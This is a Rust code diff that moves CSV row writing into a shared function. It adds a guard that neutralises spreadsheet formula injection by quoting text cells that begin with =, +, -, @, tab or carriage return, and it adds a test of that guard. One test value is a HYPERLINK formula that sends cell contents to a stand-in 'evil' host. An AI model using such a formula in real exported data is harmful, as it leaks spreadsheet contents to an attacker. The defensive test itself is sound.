@@ -127,24 +127,46 @@ fn csv(columns: &[&str], rows: &[Value]) -> Result<Vec<u8>, ApiError> {
     let mut writer = csv::Writer::from_writer(Vec::new());
     writer.write_record(columns).map_err(anyhow::Error::from)?;
     for row in rows {
-        let mut flat = Map::new();
-        flatten("", row, &mut flat);
-        // A field with no column would vanish from the table without a word: a type whose
-        // COLUMNS fell behind its rows fails here (and in the tests) instead. Lists stay in
-        // the JSON answer: a CSV cell holds one value. A null object (an interval with no
-        // data) leaves its columns blank.
-        let unlisted = |(k, v): &(&String, &Value)| !v.is_array() && !v.is_null() && !columns.contains(&k.as_str());
-        if let Some((field, _)) = flat.iter().find(unlisted) {
-            return Err(anyhow::anyhow!("row field `{field}` has no CSV column").into());
-        }
-        let cells = columns.iter().map(|c| match flat.get(*c) {
-            None | Some(Value::Null) => String::new(),
-            Some(Value::String(s)) => s.clone(),
-            Some(other) => other.to_string(),
-        });
-        writer.write_record(cells).map_err(anyhow::Error::from)?;
+        write_row(&mut writer, columns, row)?;
     }
     Ok(writer.into_inner().map_err(|e| anyhow::anyhow!("{e}"))?)
+}
+
+/// One row under `columns`: every CSV the service writes goes through here.
+pub(crate) fn write_row<W: std::io::Write>(
+    writer: &mut csv::Writer<W>,
+    columns: &[&str],
+    row: &Value,
+) -> Result<(), ApiError> {
+    let mut flat = Map::new();
+    flatten("", row, &mut flat);
+    // A field with no column would vanish from the table without a word: a type whose
+    // COLUMNS fell behind its rows fails here (and in the tests) instead. Lists stay in
+    // the JSON answer: a CSV cell holds one value. A null object (an interval with no
+    // data) leaves its columns blank.
+    let unlisted = |(k, v): &(&String, &Value)| !v.is_array() && !v.is_null() && !columns.contains(&k.as_str());
+    if let Some((field, _)) = flat.iter().find(unlisted) {
+        return Err(anyhow::anyhow!("row field `{field}` has no CSV column").into());
+    }
+    let cells = columns.iter().map(|c| match flat.get(*c) {
+        None | Some(Value::Null) => String::new(),
+        Some(Value::String(s)) => inert(s),
+        Some(other) => other.to_string(),
+    });
+    writer.write_record(cells).map_err(anyhow::Error::from)?;
+    Ok(())
+}
+
+/// A text cell a spreadsheet will not run: one that starts with `=`, `+`, `-`, `@`, a tab or a
+/// carriage return (a formula, or a character that starts one) gets a leading `'`, which
+/// spreadsheets read as "text" and hide (OWASP's CSV injection rule). Numbers are written as
+/// numbers, so a negative z-score stays a number; only text that merely looks like one, such
+/// as a phone number `+62…`, carries the quote.
+fn inert(text: &str) -> String {
+    match text.as_bytes().first() {
+        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') => format!("'{text}"),
+        _ => text.to_owned(),
+    }
 }
 
 fn flatten(prefix: &str, value: &Value, out: &mut Map<String, Value>) {
@@ -193,6 +215,33 @@ mod tests {
         let text = String::from_utf8(csv(&["code", "ci_low", "ci_high", "n", "name"], &rows).unwrap()).unwrap();
         assert_eq!(text, "code,ci_low,ci_high,n,name\n14,1.5,2.0,,\"Riau, Kampar\"\n");
         assert_eq!(columns_of(&rows[0]), ["code", "ci_low", "ci_high", "n", "name"]);
+    }
+
+    #[test]
+    fn text_that_would_run_as_a_formula_is_quoted_and_numbers_stay_numbers() {
+        let rows = [serde_json::json!({
+            "name": "=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")", "phone": "+6281234", "note": "-1+1",
+            "by": "@SUM(A1)", "tab": "\tx", "cr": "\rx", "plain": "Siti", "z": -2.41, "n": -3
+        })];
+        let columns = ["name", "phone", "note", "by", "tab", "cr", "plain", "z", "n"];
+        let text = String::from_utf8(csv(&columns, &rows).unwrap()).unwrap();
+        let mut reader = csv::Reader::from_reader(text.as_bytes());
+        let record = reader.records().next().unwrap().unwrap();
+        let cells: Vec<&str> = record.iter().collect();
+        assert_eq!(
+            cells,
+            [
+                "'=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")",
+                "'+6281234",
+                "'-1+1",
+                "'@SUM(A1)",
+                "'\tx",
+                "'\rx",
+                "Siti",
+                "-2.41",
+                "-3"
+            ]
+        );
     }
 
     #[test]
